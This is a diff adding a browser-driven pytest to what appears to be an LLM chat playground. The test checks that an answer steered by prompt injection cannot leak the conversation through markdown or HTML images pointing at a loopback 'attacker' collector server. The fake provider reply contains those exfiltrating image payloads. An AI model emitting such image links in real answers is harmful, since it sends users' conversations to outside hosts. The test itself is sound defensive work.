@@ -2,10 +2,14 @@
 
 from __future__ import annotations
 
+import base64
+import http.server
 import os
+import shutil
 import socket
 import subprocess
 import sys
+import threading
 import time
 import urllib.request
 from collections.abc import Iterator
@@ -212,3 +216,77 @@ def test_readme_example(playground: Client, capsys: pytest.CaptureFixture[str]) 
     example = example.replace("http://127.0.0.1:7860/", playground.src)
     exec(compile(example, "README.md", "exec"), {})
     assert "\nVoted up alpha:m-1 for chat: " in capsys.readouterr().out
+
+
+class _Collector(http.server.BaseHTTPRequestHandler):
+    """Another origin on loopback: what an attacker's server would see."""
+
+    seen: list[str] = []
+
+    def do_GET(self) -> None:
+        self.seen.append(self.path)
+        self.send_response(200)
+        self.send_header("content-type", "image/gif")
+        self.end_headers()
+        self.wfile.write(_PIXEL)
+
+    def log_message(self, *args: Any) -> None:
+        return None
+
+
+_PIXEL = base64.b64decode("R0lGODlhAQABAAAAACH5BAEAAAAALAAAAAABAAEAAAIBAAA=")
+_CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
+_BROWSER_FLAGS = [
+    "--no-sandbox",
+    "--disable-gpu",
+    "--disable-quic",
+    "--no-first-run",
+    "--disable-background-networking",
+    "--disable-component-update",
+    "--disable-sync",
+]
+
+
+def test_an_answer_cannot_make_the_browser_send_the_conversation_elsewhere(
+    server: FakeProviderServer, playground: Client
+) -> None:
+    """A prompt injection can steer an answer; rendered as markdown, an image of another
+    origin would carry the conversation out in its URL as the page loads it."""
+    sync_playwright = pytest.importorskip(
+        "playwright.sync_api", reason='needs: pip install -e ".[dev]"'
+    ).sync_playwright
+    if _CHROMIUM is None:
+        pytest.skip("needs Debian's chromium (apt-get install chromium)")
+    collector = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Collector)
+    threading.Thread(target=collector.serve_forever, daemon=True).start()
+    elsewhere = f"http://127.0.0.1:{collector.server_address[1]}"
+    server.providers["alpha"].reply = (
+        f"Your chart: ![chart]({elsewhere}/md?q=secret) and "
+        f'<img alt="logo" src="{elsewhere}/html?q=secret">'
+    )
+    try:
+        with sync_playwright() as driver:
+            browser = driver.chromium.launch(executable_path=_CHROMIUM, args=_BROWSER_FLAGS)
+            page = browser.new_page()
+            page.goto(playground.src)
+            page.get_by_label("Ask anything").fill("Show me my chart")
+            page.get_by_role("button", name="Send").click()
+            images = page.locator(f'img[src^="{elsewhere}"]')
+            images.first.wait_for(state="attached")
+            # Loaded or refused, each image is done with its URL once `complete`.
+            page.wait_for_function(
+                "src => [...document.querySelectorAll(`img[src^='${src}']`)]"
+                ".every(img => img.complete)",
+                arg=elsewhere,
+            )
+            # The playground's own media still shows: an image answer, served by itself.
+            page.get_by_label("Ask anything").fill("Draw a lighthouse at dawn")
+            page.get_by_role("button", name="Send").click()
+            page.wait_for_function(
+                "[...document.querySelectorAll('img[src*=\"/gradio_api/file=\"]')]"
+                ".some(img => img.complete && img.naturalWidth > 0)"
+            )
+            browser.close()
+    finally:
+        collector.shutdown()
+    assert _Collector.seen == []
